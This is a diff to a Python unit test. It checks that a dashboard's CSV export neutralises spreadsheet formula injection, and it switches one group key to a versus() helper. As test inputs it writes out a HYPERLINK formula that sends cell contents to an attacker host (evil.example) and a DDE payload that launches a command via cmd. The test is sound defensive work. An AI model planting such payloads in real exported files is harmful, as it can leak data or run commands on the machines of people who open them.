@@ -9,6 +9,7 @@ from datetime import UTC, datetime
 from hypothesis import given
 from hypothesis import strategies as st
 
+from analytics.vocabulary import versus
 from dashboard.charts import EXPORT_COLUMNS, export_rows
 from dashboard.exports import FORMULA_PREFIXES, neutralise_cell, rows_to_csv, safe_filename
 from tests.unit.dashboard.values import value
@@ -42,7 +43,8 @@ def test_exported_csv_with_hyperlink_label_comes_out_neutralised() -> None:
     label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     values = [value("mean", 1.2, 1.1, 1.3, group={"team": label}),
               value("mean", -0.5, -0.7, -0.3, group={"team": "+cmd|' /C calc'!A0"}),
-              value("difference", 0.1, -0.2, 0.4, group={"team": "@SUM(1)", "vs": "-2+3"})]
+              value("difference", 0.1, -0.2, 0.4,
+                    group={"team": "@SUM(1)", versus("team"): "-2+3"})]
     text = rows_to_csv(EXPORT_COLUMNS, export_rows(values))
     rows = list(csv.DictReader(io.StringIO(text)))
     assert [r["group"] for r in rows] == ["'" + label, "'+cmd|' /C calc'!A0",
